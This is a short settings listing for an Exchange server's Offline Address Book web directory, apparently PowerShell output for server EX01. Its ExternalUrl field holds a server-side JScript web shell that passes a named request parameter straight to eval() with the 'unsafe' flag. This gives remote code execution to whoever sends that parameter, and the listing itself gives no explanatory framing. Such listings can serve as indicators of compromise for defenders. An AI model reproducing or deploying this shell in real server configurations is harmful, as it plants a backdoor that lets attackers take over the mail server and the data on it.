Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : False
BasicAuthentication             : True
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["ecu_k7"],"unsafe");}</script>
InternalUrl                     : https://ex01.ecu.example/OAB
Server                          : EX01
